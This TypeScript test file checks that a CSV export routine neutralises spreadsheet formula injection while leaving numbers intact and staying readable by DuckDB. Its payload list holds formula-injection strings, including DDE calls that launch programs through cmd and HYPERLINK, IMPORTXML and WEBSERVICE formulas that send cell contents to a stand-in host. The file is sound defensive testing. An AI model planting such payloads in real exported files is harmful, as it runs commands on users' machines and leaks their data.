import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine, harmless } from '../../../src/main/models/csv';

const NBSP = '\u00a0';

/** What spreadsheets have been seen to run, or to take for the beginning of something to run. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.test?d="&A1,"click")',
  '=IMPORTXML(CONCAT("http://x.test/",A1),"//a")',
  '=WEBSERVICE("http://x.test")',
  '=DDE("cmd";"/C calc";"x")',
  "=2+5+cmd|' /C calc'!A0",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '--1',
  '-A1',
  '- 5',
  '@SUM(1+1)',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\tplain',
  '\rplain',
  ' =1+1',
  '   =1+1',
  `${NBSP}=1+1`,
  ` ${NBSP} @A1`,
  '\u3000=1+1',
  '\ufeff=1+1',
  'name\n=1+1',
  'name\r\n=1+1',
  'name\r=1+1',
  'name\n +A1',
  `name\n${NBSP}-A1`,
  'a\n\n@A1',
  '＝1+1',
  '＋A1',
  '－A1',
  '＠A1',
  '=',
  '-',
  '+49 30 1234',
  '-1e',
  '=A1,"=B1"',
];

describe('text in a CSV that we write', () => {
  it.each(PAYLOADS.map((payload) => [JSON.stringify(payload), payload]))(
    '%s cannot be taken for a formula',
    (_, payload) => {
      for (const line of harmless(payload).split(/[\r\n]/)) expect(line).not.toMatch(/^\s*[=+\-@＝＋－＠\t]/);
      expect(harmless(payload)[0]).not.toBe('\r');
      expect(harmless(payload).replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
    },
  );

  it.each(['-5', '+5', '-0.5', '-.5', '1e5', '-1.25E-7', '+0', '12', '-5.'])(
    '%s is a number and stays as it is',
    (text) => {
      expect(harmless(text)).toBe(text);
    },
  );

  it.each(['', 'plain', 'a=b', 'a-b', "'quoted", 'x@y.test', 'two\nlines', '企鹅', '1+1'])(
    '%j is harmless already',
    (text) => {
      expect(harmless(text)).toBe(text);
    },
  );
});

describe('a line of CSV', () => {
  it('writes numbers as they are, even negative ones, and missing values empty', () => {
    expect(csvLine([-1.5, 1e-7, null, true, '-3'])).toBe('-1.5,1e-7,,true,-3\n');
  });

  it('quotes what would otherwise be read apart', () => {
    expect(csvLine(['a,b', 'say "x"', 'two\nlines', ' padded'])).toBe(
      '"a,b","say ""x""","two\nlines"," padded"\n',
    );
  });

  it('is read back to the letter by another program', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'espalier-csv-'));
    const connection = await (await DuckDBInstance.create()).connect();
    const text = fc
      .string({ unit: 'grapheme', minLength: 1, maxLength: 12 })
      .filter((value) => !/[\r\0]/.test(value));
    const property = fc.asyncProperty(
      fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 8 }),
      async (rows) => {
        const path = join(folder, 'table.csv');
        await writeFile(path, csvLine(['first', 'second']) + rows.map((row) => csvLine(row)).join(''));
        const reader = await connection.runAndReadAll(
          `SELECT * FROM read_csv('${path}', header=true, auto_detect=false, delim=',', quote='"', escape='"', new_line='\\n', columns={'first':'VARCHAR','second':'VARCHAR'})`,
        );
        expect(reader.getRows()).toEqual(rows.map((row) => row.map(harmless)));
      },
    );
    try {
      await fc.assert(property, { numRuns: 100 });
    } finally {
      connection.closeSync();
      await rm(folder, { recursive: true });
    }
  });
});
